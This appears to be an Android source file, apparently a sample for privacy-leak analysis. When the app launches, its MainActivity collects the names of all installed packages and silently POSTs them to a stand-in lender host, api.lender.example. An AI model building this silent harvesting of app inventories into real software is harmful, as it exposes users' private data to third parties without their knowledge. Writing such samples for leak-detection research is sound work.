package com.example.flows.apps_volley;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;
import com.android.volley.toolbox.*;

/** The list of installed apps is the body of a Volley request. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        final StringBuilder names = new StringBuilder();
        for (PackageInfo each : getPackageManager().getInstalledPackages(0)) {
            names.append(each.packageName).append(',');
        }
        final String body = names.toString();
        StringRequest request = new StringRequest(1, "https://api.lender.example/apps", null, null) {
            @Override
            public byte[] getBody() {
                return body.getBytes();
            }
        };
        Volley.newRequestQueue(this).add(request);
    }

}
